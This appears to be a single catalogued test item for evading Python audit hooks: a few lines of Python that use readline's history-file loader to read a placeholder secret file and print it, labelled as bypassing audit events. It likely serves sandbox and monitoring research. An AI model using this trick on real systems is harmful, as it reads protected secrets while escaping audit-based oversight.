# technique: readline opens its history file in C, without an audit event
# goal: read-secret
# source: no audit event
# needs: readline
import readline
readline.read_history_file('@SECRET@')
print(readline.get_history_item(1))
